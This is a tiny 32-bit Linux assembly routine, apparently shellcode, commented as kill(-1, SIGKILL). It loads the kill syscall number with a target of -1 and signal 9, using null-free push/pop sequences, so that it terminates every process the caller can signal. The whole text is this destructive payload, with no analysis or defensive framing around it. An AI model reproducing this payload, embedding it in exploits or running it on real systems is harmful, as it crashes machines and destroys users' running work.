; Linux, 32 bit: kill(-1, SIGKILL): everything that may be ended.
bits 32
        push byte 37
        pop eax
        push byte -1
        pop ebx
        push byte 9
        pop ecx
        int 80h
